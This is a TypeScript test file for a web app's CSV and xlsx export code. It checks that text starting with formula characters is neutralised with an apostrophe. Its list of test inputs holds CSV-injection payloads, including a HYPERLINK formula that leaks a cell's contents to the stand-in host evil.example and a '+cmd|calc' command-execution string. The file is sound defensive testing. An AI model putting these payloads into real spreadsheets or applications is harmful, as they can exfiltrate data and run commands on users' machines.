import { readSheet } from 'read-excel-file/node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createOrgWithAdmin } from '../../../test/factories.js';
import { createTestApp, type TestApp } from '../../../test/harness.js';
import { parseCsv } from '../../../test/rounds.js';
import { neutraliseFormula, restoreNeutralisedText, toCsv, toCsvSections, toXlsx } from './tabular.js';

/**
 * Text a spreadsheet would run as a formula (=, +, -, @, a leading tab or CR) leaves every CSV and
 * xlsx inert, in the one place that writes them; numbers stay numbers.
 */

const hostile = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '+cmd|calc',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '＝1+1',
  '＋1',
];

describe('the one writer of CSV and xlsx', () => {
  it('puts an apostrophe before text that would start a formula, and leaves other text and numbers alone', () => {
    for (const text of hostile) expect(neutraliseFormula(text)).toBe(`'${text}`);
    for (const text of ['窓口', 'a=1', '', "'quoted", '１＋１', '（＝参考）'])
      expect(neutraliseFormula(text)).toBe(text);
    for (const text of hostile) expect(restoreNeutralisedText(neutraliseFormula(text))).toBe(text);

    const table = {
      name: '=title',
      header: ['=h', '件名'],
      rows: [
        [hostile[0] ?? '', -3],
        ['+x', 1.5],
        [null, '@y'],
      ],
    };
    const rows = parseCsv(toCsv(table).toString('utf8'));
    expect(rows).toEqual([
      ["'=h", '件名'],
      [`'${hostile[0]}`, '-3'],
      ["'+x", '1.5'],
      ['', "'@y"],
    ]);
    const sections = parseCsv(toCsvSections([table]).toString('utf8'));
    expect(sections[0]).toEqual(["'=title"]);
    expect(sections[2]).toEqual([`'${hostile[0]}`, '-3']);
  });

  it('writes text as text cells with the same apostrophe in xlsx, and numbers as numbers', async () => {
    const buffer = await toXlsx({ name: 'x', header: ['=h'], rows: [['=1+1'], [-3], ['普通']] });
    const sheet = await readSheet(buffer);
    expect(sheet).toEqual([["'=h"], ["'=1+1"], [-3], ['普通']]);
    // No cell of the workbook is a formula.
    expect(buffer.includes(Buffer.from('<f>'))).toBe(false);
  });
});

describe('exports through the API', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp();
  });
  afterAll(() => t.close());

  it('a case titled as a formula, and an anonymous participant commenting one, come out inert', async () => {
    const { org, cookie } = await createOrgWithAdmin(t);
    const created = await t.app.inject({
      method: 'POST',
      url: `/api/orgs/${org.id}/cases`,
      headers: { cookie },
      payload: {
        title: hostile[0],
        problem: '+cmd|calc',
        action: '@SUM(1)',
        happenedOn: '2026-06-01',
        sharing: 'org',
      },
    });
    expect(created.statusCode, created.body).toBe(201);
    const csv = await t.app.inject({
      method: 'GET',
      url: `/api/orgs/${org.id}/cases/export?from=own&lang=ja`,
      headers: { cookie },
    });
    expect(csv.statusCode).toBe(200);
    const cells = parseCsv(csv.body).flat();
    expect(cells).toContain(`'${hostile[0]}`);
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const event = await t.app.inject({
      method: 'POST',
      url: `/api/orgs/${org.id}/presentation-events`,
      headers: { cookie },
      payload: { title: '発表会', criteria: ['効果'], presentations: [{ title: '発表', presenter: '=1+1' }] },
    });
    expect(event.statusCode, event.body).toBe(201);
    const { id, code } = event.json() as { id: string; code: string };
    const joined = await t.app.inject({
      method: 'POST',
      url: '/api/workshops/join',
      payload: { code, nickname: '=1+1', position: 'staff' },
    });
    expect(joined.statusCode, joined.body).toBe(201);
    const participant = `${joined.cookies[0]?.name}=${joined.cookies[0]?.value}`;
    const presentationId = (
      await t.app.inject({ method: 'GET', url: `/api/orgs/${org.id}/presentation-events/${id}`, headers: { cookie } })
    ).json().presentations[0].id;
    const posted = await t.app.inject({
      method: 'POST',
      url: `/api/presentation-events/${id}/comments`,
      headers: { cookie: participant },
      payload: { presentationId, body: '=1+1' },
    });
    expect(posted.statusCode, posted.body).toBe(201);
    const exported = await t.app.inject({
      method: 'GET',
      url: `/api/orgs/${org.id}/presentation-events/${id}/export?format=csv`,
      headers: { cookie },
    });
    const eventCells = parseCsv(exported.body).flat();
    expect(eventCells.filter((c) => c === "'=1+1").length).toBeGreaterThanOrEqual(3);
    for (const cell of eventCells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
